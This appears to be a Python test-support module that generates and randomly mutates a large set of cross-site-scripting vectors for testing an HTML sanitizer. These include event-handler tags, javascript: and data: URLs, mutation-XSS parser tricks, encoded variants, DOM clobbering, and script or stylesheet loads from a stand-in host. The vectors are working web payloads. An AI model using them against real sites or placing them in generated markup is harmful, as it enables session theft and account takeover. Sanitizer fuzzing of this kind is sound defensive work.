"""Markup that runs something where it is not made harmless: made from classes, the same every time, and mutated.

Each vector calls ``hit()``, or asks ``//canary.example`` for what can run.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator

# What fires by itself, `{0}` a place between two words of the tag and `{1}` what runs.
_HANDLERS = (
    "<img{0}src=x{0}onerror={1}>",
    "<svg{0}onload={1}>",
    "<body{0}onload={1}>",
    "<video><source{0}onerror={1}></video>",
    "<audio{0}src=x{0}onerror={1}>",
    "<details{0}open{0}ontoggle={1}>x</details>",
    "<input{0}autofocus{0}onfocus={1}>",
    "<x{0}autofocus{0}tabindex=1{0}onfocus={1}>x</x>",
    "<iframe{0}onload={1}></iframe>",
    "<object{0}data=x{0}onerror={1}></object>",
    "<link{0}rel=stylesheet{0}href=x{0}onerror={1}>",
    "<style{0}onload={1}>a</style>",
    "<svg><animate{0}attributeName=x{0}dur=1s{0}onbegin={1}></svg>",
    "<svg><image{0}href=x{0}onerror={1}></svg>",
    "<picture><source{0}srcset=x><img{0}onerror={1}></picture>",
    "<p{0}onclick={1}{0}onmouseover={1}>x</p>",
)
_PAYLOADS = (
    "hit()",
    '"hit()"',
    "'hit()'",
    "`${{hit()}}`",
    "&#104;it()",
    "&#x68;it&lpar;&rpar;",
    "\\u0068it()",
    "eval(name='hit()')",
)
_GAPS = (" ", "/", "\t", "\n", "\r\n", "\x0c", " / ", "\u00a0", " x='>' ")

_BEFORE = (
    *('">', "'>", "-->", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</xmp>"),
    *("</iframe>", "</noembed>", "</noframes>", "</template>", "</select>", "</svg>", "</math>", "<!--", "<!-->"),
    *("<![CDATA[", "<?xml?>", "<noscript>", "<textarea>", "<style>", "<title>", "<xmp>", "<svg>", "<math><mtext>"),
    *("<template>", "<select><option>", "<table>", "<table><tr><td>", "<svg><foreignObject>", "<svg><desc>", "<form>"),
    *("<svg><style>", "<math><annotation-xml encoding='text/html'>", "<a href='", '<p title="', "<<", "<\x00", "&lt;"),
)

_SCHEMES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "\x01javascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "javascript\t:hit()",
    "&#106;avascript:hit()",
    "&#106avascript:hit()",
    "&#x6A;&#x61;vascript:hit()",
    "&#0000106avascript:hit()",
    "javascript&colon;hit()",
    "javascript&#58;hit()",
    "java&Tab;script:hit()",
    "java&NewLine;script&colon;hit&lpar;&rpar;",
    "javascript://x.example/%0ahit()",
    "//x.example/../javascript:hit()",
    "vbscript:hit()",
    "livescript:hit()",
    "feed:javascript:hit()",
    "view-source:javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "blob:https://x.example/1",
    "file:///etc/passwd",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<img src="{}" srcset="{} 2x">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}"><a href="x">x</a>',
    '<map><area href="{}"></map>',
    '<svg><use href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<blockquote cite="{}">x</blockquote>',
)

_OTHERS = (
    # two parsers that do not agree (mXSS)
    "<noscript><!-- </noscript><img src=x onerror=hit()> --></noscript>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='hit()'>\">",
    '<svg><style><a id="</style><img src=1 onerror=hit()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>"></svg>',
    "<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=hit()>]]></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
    '<select><template><img src=x onerror=hit()></template><svg><style>"</select><img src=x onerror=hit()>"',
    '<template><img src="</template><img src=x onerror=hit()>"></template>',
    '<table><td><svg><style><img title="</style><img src=x onerror=hit()>"></table>',
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<plaintext><img src=x onerror=hit()>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror=hit()>'></iframe>",
    "<a><div><a><table><a><img src=x onerror=hit()>",
    "<p>" * 8 + "<svg><p><style><!--</style><img src=x onerror=hit()>-->",
    # scripts
    *("<script>hit()</script>", "<script src=//canary.example/x.js></script>", "<script\x00>hit()</script>"),
    *("<SCRIPT/x>hit()</SCRIPT>", "<script>hit()", "<scr<script>ipt>hit()</scr</script>ipt>", "<script>hit()</script "),
    *(
        "<svg><script>hit()</script></svg>",
        "<svg><script href=//canary.example/x.js />",
        "<math><script>hit()</script>",
    ),
    "<script xmlns='http://www.w3.org/1999/xhtml'>hit()</script>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "<script type=module>import '//canary.example/m.js'</script>",
    '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
    "<iframe src=//canary.example/></iframe>",
    "<frameset onload=hit()><frame src=//canary.example/></frameset>",
    "<embed src=//canary.example/x.svg><object data=//canary.example/x.svg></object>",
    "<link rel=stylesheet href=//canary.example/x.css><link rel=import href=//canary.example/x>",
    "<link rel=preload as=script href=//canary.example/x.js><link rel=modulepreload href=//canary.example/m.js>",
    "<meta http-equiv=refresh content='0;//canary.example/'><meta http-equiv=set-cookie content=a=b>",
    "<base href=//canary.example/><script src=x.js></script>",
    # style
    "<style>@import '//canary.example/x.css'; *{background:url(javascript:hit())}</style>",
    "<p style='background:url(javascript:hit())'>x</p><p style='width:expression(hit())'>x</p>",
    "<p style='behavior:url(#default#time2)' onbegin=hit()>x</p><p style=-moz-binding:url(//canary.example/x)>x</p>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=hit()>x</b>",
    "<div style='position:fixed;inset:0;z-index:9' onclick=hit()>x</div>",
    "<style>@font-face{font-family:x;src:url(//canary.example/x.woff)}*{font-family:x}</style>x",
    # names that stand in for something of the page
    "<form id=document><input name=body><img name=hit><a id=location href=javascript:hit()>x</a></form>",
    "<a id=items></a><a id=items name=length href='javascript:hit()'></a>",
    "<img name=getElementById><form name=cookie><iframe name=top></iframe></form>",
    # what no browser runs any more
    "<!--[if IE]><script>hit()</script><![endif]-->",
    "<img src='x' dynsrc='javascript:hit()' lowsrc='javascript:hit()'><bgsound src=javascript:hit()>",
    "<xml id=x><a><![CDATA[<img src=x onerror=hit()>]]></a></xml><span datasrc=#x datafld=a dataformatas=html></span>",
    "<table background=javascript:hit()><td background=javascript:hit()>x</table>",
    "<isindex type=image src=x onerror=hit()><keygen autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee><marquee loop=1 width=0 onfinish=hit()>x</marquee>",
    "<t:set xmlns:t='urn:schemas-microsoft-com:time' attributeName=innerHTML to='<img src=x onerror=hit()>'>",
    # encodings
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u00bcscript\u00behit()\u00bc/script\u00be",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cimg src=x onerror=hit()\\u003e",
    "&lt;img src=x onerror=hit()&gt;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "&LT;img src=x onerror=hit()&GT;",
    "<\u202eimg src=x onerror=hit()>\u202c<img src=x\u2066 onerror=hit()\u2069>",
    "\x00<\x00i\x00m\x00g src=x onerror=hit()>",
    "<img\u2028src=x\u2029onerror=hit()>",
    "<\u017fcript>hit()</\u017fcript><\u0131mg src=x onerror=hit()>",
    # never closed
    *("<img src=x onerror=hit()", '"><svg onload=hit()//', '<img src="x` `<script>hit()</script>"` `>', "<a href='//x"),
    *('<img src=x title=">" onerror=hit()', "<p title='<img src=x onerror=hit()>", "<svg/onload=hit()<!--", "<b x=y"),
    # in a card, a code block and a formula: what the house itself puts together
    '<div class="ltag"><h2><a href="javascript:hit()">x</a></h2></div>',
    '<div class="ltag"><h2><a href="https://x.example/">&lt;img src=x onerror=hit()&gt;</a></h2></div>',
    '<iframe src="https://www.youtube.com/embed/x&quot;><img src=x onerror=hit()>" title="<img src=x onerror=hit()>">',
    '<pre class="highlight x&quot;onmouseover=&quot;hit()"><code class="language-&lt;img&gt;">x</code></pre>',
    "<pre><code>&lt;img src=x onerror=hit()&gt; &lt;script&gt;hit()&lt;/script&gt;</code></pre>",
    "<math><semantics><annotation>&lt;img src=x onerror=hit()&gt;</annotation></semantics></math>",
    "<math alttext='<img src=x onerror=hit()>'><mi>x</mi></math>",
    '<img src="https://x.example/a.png" alt="<img src=x onerror=hit()>" title="<svg onload=hit()>">',
    "<video src=https://x.example/v title='<img src=x onerror=hit()>'></video>",
    '<p lang="<img src=x onerror=hit()>" dir="x onload=hit()">x</p><td colspan="2 onclick=hit()">',
    "{{constructor.constructor('hit()')()}} ${hit()} <%= hit() %> [[hit()]] {% raw %}",
    '[x](javascript:hit()) ![x](x "onerror=hit()") <javascript:hit()> `<img src=x onerror=hit()>`',
)


def vectors() -> tuple[str, ...]:
    """Every vector, in a fixed order."""
    found: dict[str, None] = {}
    for number, handler in enumerate(_HANDLERS):
        for place, payload in enumerate(_PAYLOADS):
            one = handler.format(_GAPS[(number + place) % len(_GAPS)], payload)
            found |= dict.fromkeys((one, _cased(one) if place % 2 else one.removesuffix(">")))
    for number, before in enumerate(_BEFORE):
        found[before + _HANDLERS[number % len(_HANDLERS)].format(" ", "hit()")] = None
        found[f"{before}<img src=x onerror=hit()>"] = None
    for number, scheme in enumerate(_SCHEMES):
        for carrier in _CARRIERS[number % 2 :: 2]:
            found[carrier.replace("{}", scheme)] = None
        found[scheme] = None
    found |= dict.fromkeys(_OTHERS)
    return tuple(found)


def _cased(text: str) -> str:
    cased = "".join(one.upper() if place % 2 else one for place, one in enumerate(text))
    return re.sub("hit", "hit", cased, flags=re.IGNORECASE)


_PIECES = (
    *("<", ">", "/", '"', "'", "`", "=", " ", "\t", "\n", "\x0c", "\x00", "&", ";", "<!--", "-->", "--!>", "<![CDATA["),
    *("]]>", "</", "<!", "<?", "&lt;", "&gt;", "&quot;", "&#0;", "&Tab;", "&NewLine;", "&colon;", "<svg>", "<math>"),
    *("</svg>", "</math>", "<style>", "</style>", "<noscript>", "</noscript>", "<template>", "</template>", "<p>"),
    *("</p>", "<table>", "<td>", "<select>", "<form>", "</form>", "<mtext>", "<mglyph>", "<foreignObject>", "<title>"),
    *(
        "</title>",
        "<textarea>",
        "</textarea>",
        "<a href=",
        "javascript:",
        "onerror=hit()",
        "<b>",
        "</b>",
        "<a>",
        "\u202e",
    ),
    *(
        "<pre>",
        "<code class=language-x>",
        "<div class=ltag>",
        "<iframe src=//x.example>",
        "</iframe>",
        "<img src=x ",
        "\u2028",
    ),
)


def mutated(seed: int, count: int) -> Iterator[str]:
    """``count`` vectors that nobody has written: cut, joined, filled, turned around; the same for the same seed."""
    chance = random.Random(seed)
    known = vectors()
    changes: tuple[Callable[[str], str], ...] = (
        lambda text: _at(chance, text, chance.choice(_PIECES)),
        lambda text: _at(chance, text, chance.choice(_PIECES)),
        lambda text: _at(chance, text, chance.choice(known)),
        lambda text: _without(chance, text),
        lambda text: "".join(one.swapcase() if chance.random() < 0.3 else one for one in text),
        lambda text: chance.choice(_BEFORE) + text,
        lambda text: text + chance.choice(known),
        lambda text: text.replace("<", "&lt;", 1),
        lambda text: _referred(chance, text),
    )
    for _ in range(count):
        text = chance.choice(known)
        for _ in range(chance.randint(1, 4)):
            text = chance.choice(changes)(text)
        yield text[:2000]


def _at(chance: random.Random, text: str, piece: str) -> str:
    place = chance.randint(0, len(text))
    return text[:place] + piece + text[place:]


def _without(chance: random.Random, text: str) -> str:
    place = chance.randint(0, len(text))
    return text[:place] + text[place + chance.randint(1, 8) :]


def _referred(chance: random.Random, text: str) -> str:
    """One character as a reference to it."""
    place = chance.randrange(len(text)) if text else 0
    form = chance.choice(("&#{};", "&#x{:x};", "&#{}", "&#00000{};"))
    return text[:place] + form.format(ord(text[place])) + text[place + 1 :] if text else text
